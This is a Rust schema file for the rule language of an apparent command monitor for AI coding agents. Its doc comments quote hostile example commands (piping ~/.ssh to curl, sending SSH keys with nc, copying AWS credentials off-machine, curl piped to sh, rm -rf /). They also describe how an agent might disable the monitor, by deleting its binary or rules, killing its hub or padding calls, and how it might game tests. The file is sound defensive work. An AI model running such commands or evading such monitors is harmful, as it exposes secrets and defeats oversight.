//! The serde types of a rule file, exactly as users write them.
//!
//! Every struct denies unknown fields: a misspelled key (`cooldwon: 30s`) must be an error with a
//! location, never a silently ignored setting.

use std::fmt;
use std::time::Duration;

use serde::{de, Deserialize, Deserializer, Serialize};

use super::tool_class::ToolClass;

/// One YAML file under `rules/`.
#[derive(Debug, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct RuleFile {
    pub rules: Vec<RuleSpec>,
}

/// One rule, as written.
#[derive(Debug, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct RuleSpec {
    pub id: String,
    #[serde(default)]
    pub description: String,
    #[serde(default)]
    pub severity: Severity,
    #[serde(rename = "match")]
    pub matches: Option<MatchSpec>,
    #[serde(default, deserialize_with = "one_or_many")]
    pub unless: Vec<String>,
    /// A match is exempt when one of the [`LINES_ABOVE`](super::LINES_ABOVE) lines above it
    /// matches one of these (the decorator above a method, the opening of a block).
    #[serde(default, deserialize_with = "one_or_many")]
    pub unless_above: Vec<String>,
    #[serde(default)]
    pub scope: Scope,
    /// For `scope: tool`: only calls of this class of tools, their argument matched by the
    /// regexes (`match` and `unless`) from its first byte.
    #[serde(default, deserialize_with = "tool_class")]
    pub tool: Option<ToolClass>,
    /// Which tasks the rule watches: any command (the default), or only AI agents.
    #[serde(default)]
    pub applies_to: AppliesTo,
    /// For a line that shows a shell command: which command it must be (parsed, not pattern-matched).
    pub command: Option<CommandSpec>,
    /// Fire only when the task's evidence (edits, test runs and their outcome) is in this state.
    pub evidence: Option<EvidenceSpec>,
    pub action: Option<Action>,
    pub message: Option<String>,
    pub cooldown: Option<HumanDuration>,
    pub threshold: Option<Threshold>,
    pub escalate: Option<Escalate>,
    pub silence: Option<HumanDuration>,
    #[serde(default = "enabled_by_default")]
    pub enabled: bool,
    #[serde(default)]
    pub tags: Vec<String>,
    #[serde(default)]
    pub tests: Vec<RuleTest>,
}

fn enabled_by_default() -> bool {
    true
}

/// What a rule looks for in a line.
#[derive(Debug, Default, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct MatchSpec {
    #[serde(default, deserialize_with = "one_or_many")]
    pub literals: Vec<String>,
    #[serde(default, deserialize_with = "one_or_many")]
    pub regex: Vec<String>,
    #[serde(default)]
    pub case_insensitive: bool,
}

/// A shell command a rule is about: `rm` with `-r` and `-f` on a path outside the project, say.
/// Every key given must hold for one of the simple commands in the line.
#[derive(Debug, Clone, Default, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct CommandSpec {
    /// The program's name (`rm`, `git`), after `sudo`/`env`/`bash -c` and paths are stripped;
    /// `'*'` for any program (the rule then needs a `match` to flag the lines to parse).
    #[serde(deserialize_with = "one_or_many")]
    pub program: Vec<String>,
    /// Programs it must not be, for `program: '*'`: the ones that only read their operands.
    #[serde(default, deserialize_with = "one_or_many")]
    pub not_program: Vec<String>,
    /// The first operand (`push` in `git push`).
    #[serde(default, deserialize_with = "one_or_many")]
    pub subcommand: Vec<String>,
    /// Options that must all be given; each entry lists alternatives: `r|R|recursive` is met by
    /// `-r`, `-R`, `-rf` or `--recursive`.
    #[serde(default, deserialize_with = "one_or_many")]
    pub flags: Vec<String>,
    /// Options none of which may be given, written as `flags` are: `n|dry-run` passes over
    /// `git clean -fn` and `git clean -f --dry-run`.
    #[serde(default, deserialize_with = "one_or_many")]
    pub not_flags: Vec<String>,
    /// Regexes; at least one operand (a word that is not an option) must match one of them.
    #[serde(default, deserialize_with = "one_or_many")]
    pub args: Vec<String>,
    /// Regexes; some operand of the same command must match one of these too: `chmod`'s mode
    /// (`644`) beside its file (`~/.ssh/id_rsa`).
    #[serde(default, deserialize_with = "one_or_many")]
    pub also_args: Vec<String>,
    /// Texts, one of which some operand must find a match in when read as a regex, as pkill reads
    /// its pattern: `pkill -f 'ax[i]om'` would signal a process whose command line is `axiom serve`.
    #[serde(default, deserialize_with = "one_or_many")]
    pub args_would_match: Vec<String>,
    /// Programs whose running processes' command lines, read as the call is judged, count as
    /// texts for `args_would_match` too (`pkill -f local` would signal `/usr/local/bin/axiom
    /// serve`). Each is cut at a `--`, after which a worker's line holds its task's command.
    #[serde(default, deserialize_with = "one_or_many")]
    pub args_would_match_running: Vec<String>,
    /// Programs, one of whose running processes some operand must be, by its pid (`4242`) or its
    /// process group's (`-4242`), read as the call is judged: `kill -9 4242` where 4242 is the
    /// hub. An `axiom hook` process is not counted as one of axiom's (it is gone by the time the
    /// call runs), as for `args_would_match_running`.
    #[serde(default, deserialize_with = "one_or_many")]
    pub args_pids_of: Vec<String>,
    /// Programs, one of which must read the command's output through a pipe, directly or through
    /// other commands of the pipeline, as what it runs: given no file to run, or `-s`, `-` or
    /// `/dev/stdin` (`sh` in `curl … | tee f | sh`; not `bash fetch.sh`).
    #[serde(default, deserialize_with = "one_or_many")]
    pub piped_into: Vec<String>,
    /// Programs, one of which must be given the command's output as arguments, maybe through
    /// other commands: substituted into its words (`kill $(pgrep x)`, `` kill `pidof x` ``), added
    /// by `xargs` (`pgrep x | xargs kill`), or kept in a variable, a `for` list or a `while read`
    /// loop by a script that runs the program (`pids=$(pgrep x); kill $pids`).
    #[serde(default, deserialize_with = "one_or_many")]
    pub output_as_args_of: Vec<String>,
    /// `args` judge only what a copy writes: for cp, scp, rsync and install, the target
    /// (`cp .claude/settings.json /tmp/bak` writes `/tmp/bak`, `cp x ~/.config/` writes
    /// `~/.config/x`), not the sources they read. Other programs' operands all count.
    #[serde(default)]
    pub args_written: bool,
    /// `args` judge only what a move takes away: for mv, the sources (`mv ~ /tmp/old` moves the
    /// home directory; `mv tool /usr/local/bin/` moves only `tool`). Other programs' operands all
    /// count.
    #[serde(default)]
    pub args_moved: bool,
    /// `args` judge only what a copy to another machine sends: for scp, sftp, rsync, rclone, `aws s3
    /// cp`, `gsutil cp` and `gcloud storage cp`, the local sources when the destination is elsewhere
    /// (`scp ~/.aws/credentials host:` sends the file; `scp host:/srv/.env .` and `rsync -a
    /// --exclude .env ./ host:/srv/` send none of it); for `gh gist create`, its files. Other
    /// programs' operands all count.
    #[serde(default)]
    pub args_sent: bool,
    /// `args` judge the files the command reads as its input too, each written `<FILE`: `nc host
    /// 9 < ~/.ssh/id_rsa` sends `<~/.ssh/id_rsa`.
    #[serde(default)]
    pub args_input: bool,
    /// The command must name a machine other than this one to talk to: a web address of curl,
    /// wget, httpie or xh (`https://x.example/`, `x.example:8080`, `--url URL`), a host of nc, ncat
    /// or telnet, a connecting address of socat (`TCP:x.example:443`). An address of this machine
    /// (`localhost`, `127.0.0.1`, `[::1]`) does not count; a host the call computes (`$HOST`) or
    /// reads from a file (`curl -K`, `wget -i`) does. Read from the command's own words, so no
    /// other part of the line can excuse the request.
    #[serde(default)]
    pub to_another_machine: bool,
    /// An operand may instead be the directory the call runs in or one above it: `.`, `$PWD`,
    /// `$(pwd)`, `$(git rev-parse --show-toplevel)`, `..`, or, where the directory is known
    /// (`axiom hook`, a supervised agent), its path however it is written (`/home/u/app`,
    /// `~/app`, `cd .. && rm -rf app`).
    #[serde(default)]
    pub args_hold_workplace: bool,
    /// An operand may instead be the axiom program judging the call or the rule files it was
    /// given (`axiom hook --rules DIR`, `$AXIOM_RULES`), a file in them or a directory that holds
    /// them (not `/`), however its path is written (`/opt/x/axiom`, `./target/release/axiom` where
    /// the call runs is known, `rm -rf ~/.cargo/bin`, `/opt/*`): `hooks install` writes these
    /// paths into settings the agent can read, and a hook whose program or rules were replaced
    /// judges nothing.
    #[serde(default)]
    pub args_hold_own_program: bool,
    /// Programs, one of which must write the command's input through a pipe, directly or through
    /// other commands of the pipeline (`ps` in `ps aux | grep x`).
    #[serde(default, deserialize_with = "one_or_many")]
    pub piped_from: Vec<String>,
    /// Programs, one of which must read the command's output through a pipe, directly or through
    /// other commands of the pipeline (`curl` in `tar cz ~/.ssh | base64 | curl -d @- URL`),
    /// whatever it does with it; `piped_into` asks for a shell that runs it.
    #[serde(default, deserialize_with = "one_or_many")]
    pub piped_to: Vec<String>,
    /// Programs, one of which must run, later in the same call, the file the command saves its
    /// download to (`curl -o i.sh URL && bash i.sh`, `wget URL/install.sh; sh install.sh`); the
    /// file run as a program counts too (`chmod +x i.sh && ./i.sh`). For curl and wget: `-o`,
    /// `-O`, `--output`, `--output-document`, a redirection, wget's default name.
    #[serde(default, deserialize_with = "one_or_many")]
    pub saved_and_run_by: Vec<String>,
    /// At most this many operands after the subcommand (`git push -f origin` has one: it names no
    /// branch, so it pushes the one checked out).
    #[serde(default)]
    pub max_args: Option<usize>,
    /// Regexes; the git branch checked out where the command runs, read as the call is judged,
    /// must match one of them. Only a tool call's judge knows where it runs (`axiom hook`, the
    /// hub); elsewhere such a rule does not fire.
    #[serde(default, deserialize_with = "one_or_many")]
    pub on_branch: Vec<String>,
    /// Fires on a script of more simple commands than axiom reads
    /// ([`MOST_COMMANDS_READ`](crate::shell::MOST_COMMANDS_READ), 500), which no other command rule
    /// judges: a call padded with thousands of commands must not slip by, or take the judge
    /// minutes. With it, the other keys are not read.
    #[serde(default)]
    pub too_many_commands: bool,
}

/// What a claim is judged against: the task's history since its last file edit. `tests` and
/// `unverified` are alternatives (either state is reason to fire); with neither, the rule fires
/// whatever the state, but still at most once per state, unless `unless_asked` is all it gives:
/// then it fires on every line it matches, save when the user asked for it.
#[derive(Debug, Clone, Default, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct EvidenceSpec {
    /// Fire when the tests since the last edit are in one of these states.
    #[serde(default)]
    pub tests: Vec<TestEvidence>,
    /// Fire when no command at all ran since the last edit.
    #[serde(default)]
    pub unverified: bool,
    /// Fire when the last thing the task saw was a failure (an error, an edit that did not apply)
    /// with nothing edited or run since.
    #[serde(default)]
    pub after_failure: bool,
    /// Fire only on the Nth hit since the evidence last changed (nothing edited or run in between):
    /// a loop, not a single occurrence.
    #[serde(default)]
    pub repeats: Option<u32>,
    /// Fire once the same command (its waits aside) failed this many runs in a row, with
    /// nothing edited and nothing asked in between: a rerun in the hope of another outcome.
    #[serde(default)]
    pub reruns: Option<u32>,
    /// Fire when nothing was edited since the user's latest request (one must have been seen):
    /// an answer, a plan or a question where a change was asked for.
    #[serde(default)]
    pub nothing_edited: bool,
    /// Fire only on a line that quotes, as a string, a value a failing test run printed since the
    /// tests last passed (its input, or its expected or actual value): code that answers the test.
    #[serde(default)]
    pub quotes_failing_input: bool,
    /// Fire only on a line stating at least this many figures (a number with a unit of time,
    /// size, share, ratio or rate, a count of tests, a number alone in a table's cell) that no
    /// earlier text of the task printed, as written or rounded, and more such figures than printed
    /// ones: results nothing measured.
    #[serde(default)]
    pub unseen_figures: Option<u32>,
    /// Fire at most once per task (per file offline): a state that lasts, such as a server left in
    /// the foreground, is one problem however often its output shows it.
    #[serde(default)]
    pub once: bool,
    /// A regex: do not fire when the user's latest request matches it (they asked for a plan, a
    /// stub, a question).
    #[serde(default)]
    pub unless_asked: Option<String>,
}

/// The state of the tests since the last file edit.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Deserialize, Serialize)]
#[serde(rename_all = "lowercase")]
pub enum TestEvidence {
    /// No test command ran since the last edit (or ever).
    Missing,
    /// The last test run since the last edit failed.
    Failed,
    /// The last test run since the last edit passed.
    Passed,
}

/// Fire only on the `count`-th hit inside `within`.
#[derive(Debug, Clone, Copy, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct Threshold {
    pub count: u32,
    pub within: HumanDuration,
}

/// Repeated firings inside `within` climb `steps`.
#[derive(Debug, Clone, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct Escalate {
    pub within: HumanDuration,
    pub steps: Vec<Action>,
}

/// An example embedded in a rule, run by `axiom rules test`.
#[derive(Debug, Clone, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct RuleTest {
    /// Output the task printed before `input` (edits, test runs); rules firing on it are ignored.
    #[serde(default)]
    pub history: String,
    pub input: String,
    pub expect: Expectation,
    /// The git branch checked out where a tool call runs (for `on_branch`). Absent: unknown.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub branch: Option<String>,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq, Deserialize, Serialize)]
#[serde(rename_all = "kebab-case")]
pub enum Expectation {
    Match,
    NoMatch,
}

#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, PartialOrd, Ord, Hash, Deserialize, Serialize)]
#[serde(rename_all = "lowercase")]
pub enum Severity {
    Info,
    #[default]
    Warning,
    Error,
    Critical,
}

/// What happens to the child when a rule fires, mildest first.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, PartialOrd, Ord, Hash, Deserialize, Serialize)]
#[serde(rename_all = "lowercase")]
pub enum Action {
    #[default]
    Warn,
    /// `scope: tool` only: a person decides. Under `axiom hook`, Claude Code asks its user to
    /// allow the call and shows the rule's message; where no person answers (a task axiom
    /// supervises, the claude driver), the call is refused as `deny` refuses it. For calls that
    /// are sometimes meant and ruinous when not (`terraform destroy`, `DROP DATABASE`).
    Ask,
    /// `scope: tool` only: refuse the tool call before it runs; the agent gets the rule's message
    /// as the tool's error and carries on.
    Deny,
    Inject,
    Interrupt,
    Kill,
}

impl Action {
    /// Whether this action delivers the rule's message to the child, so the message is required.
    pub fn needs_message(self) -> bool {
        matches!(self, Action::Ask | Action::Deny | Action::Inject | Action::Interrupt)
    }

    /// Whether this action stops a tool call from running where no person can be asked:
    /// `ask` and `deny`, which only `scope: tool` rules take.
    pub fn refuses_call(self) -> bool {
        matches!(self, Action::Ask | Action::Deny)
    }
}

/// Which text a rule is matched against.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, Hash, Deserialize, Serialize)]
#[serde(rename_all = "lowercase")]
pub enum Scope {
    /// Everything a task prints.
    #[default]
    Output,
    /// The prompt handed to `axiom_spawn`, checked before the task starts.
    Prompt,
    /// Each tool call an agent asks to make, as one line `TOOL: ARGUMENT` (`Bash: rm -rf /`),
    /// decided before the call runs.
    Tool,
}

/// Which tasks a rule watches. Agent habits (going silent to think, asking permission, planning
/// instead of doing) are not faults in `make` or `npm test`, so such rules say `applies_to: agents`.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, Hash, Deserialize, Serialize)]
#[serde(rename_all = "lowercase")]
pub enum AppliesTo {
    /// Every task, whatever it runs.
    #[default]
    Any,
    /// Only tasks that run an AI coding agent (see [`crate::rules::Subject`]).
    Agents,
}

macro_rules! display_as_serde_name {
    ($($ty:ty => { $($variant:ident => $name:literal),* $(,)? })*) => {$(
        impl $ty {
            pub fn as_str(self) -> &'static str {
                match self { $(Self::$variant => $name),* }
            }
        }
        impl fmt::Display for $ty {
            fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
                f.write_str(self.as_str())
            }
        }
    )*};
}

display_as_serde_name! {
    Severity => { Info => "info", Warning => "warning", Error => "error", Critical => "critical" }
    Action => { Warn => "warn", Ask => "ask", Deny => "deny", Inject => "inject", Interrupt => "interrupt", Kill => "kill" }
    Scope => { Output => "output", Prompt => "prompt", Tool => "tool" }
    AppliesTo => { Any => "any", Agents => "agents" }
    Expectation => { Match => "match", NoMatch => "no-match" }
    TestEvidence => { Missing => "missing", Failed => "failed", Passed => "passed" }
}

/// A duration written the human way: `500ms`, `30s`, `2m`, `1h 30m`.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct HumanDuration(pub Duration);

impl<'de> Deserialize<'de> for HumanDuration {
    fn deserialize<D: Deserializer<'de>>(deserializer: D) -> Result<Self, D::Error> {
        struct Visitor;
        impl de::Visitor<'_> for Visitor {
            type Value = HumanDuration;
            fn expecting(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
                f.write_str("a duration with a unit, such as 500ms, 30s, 2m or 1h")
            }
            fn visit_str<E: de::Error>(self, text: &str) -> Result<HumanDuration, E> {
                let duration = humantime::parse_duration(text).map_err(|err| {
                    E::custom(format!("invalid duration {text:?}: {err} (write e.g. 500ms, 30s, 2m, 1h)"))
                })?;
                Ok(HumanDuration(duration))
            }
            fn visit_u64<E: de::Error>(self, value: u64) -> Result<HumanDuration, E> {
                Err(E::custom(format!("duration {value} has no unit (write e.g. {value}s or {value}ms)")))
            }
            fn visit_i64<E: de::Error>(self, value: i64) -> Result<HumanDuration, E> {
                Err(E::custom(format!("duration {value} has no unit (write e.g. {value}s or {value}ms)")))
            }
        }
        deserializer.deserialize_any(Visitor)
    }
}

/// Accepts `key: "one"` as well as `key: ["one", "two"]`, since a single pattern is the common case.
fn one_or_many<'de, D: Deserializer<'de>>(deserializer: D) -> Result<Vec<String>, D::Error> {
    struct Visitor;
    impl<'de> de::Visitor<'de> for Visitor {
        type Value = Vec<String>;
        fn expecting(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
            f.write_str("a string or a list of strings")
        }
        fn visit_str<E: de::Error>(self, text: &str) -> Result<Vec<String>, E> {
            Ok(vec![text.to_owned()])
        }
        fn visit_seq<A: de::SeqAccess<'de>>(self, mut seq: A) -> Result<Vec<String>, A::Error> {
            let mut items = Vec::new();
            while let Some(item) = seq.next_element::<String>()? {
                items.push(item);
            }
            Ok(items)
        }
    }
    deserializer.deserialize_any(Visitor)
}

/// `tool: shell`: a class by its name; any other name is an error that lists the classes (raised
/// while the value is read, so it is located at the value).
fn tool_class<'de, D: Deserializer<'de>>(deserializer: D) -> Result<Option<ToolClass>, D::Error> {
    fn known() -> String {
        ToolClass::ALL.iter().map(|(known, _)| *known).collect::<Vec<_>>().join(", ")
    }
    struct Visitor;
    impl de::Visitor<'_> for Visitor {
        type Value = Option<ToolClass>;
        fn expecting(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
            write!(f, "a tool class: {}", known())
        }
        fn visit_str<E: de::Error>(self, name: &str) -> Result<Option<ToolClass>, E> {
            let class = ToolClass::named(name);
            class
                .map(Some)
                .ok_or_else(|| E::custom(format!("unknown tool class {name:?}: expected one of {}", known())))
        }
    }
    deserializer.deserialize_str(Visitor)
}
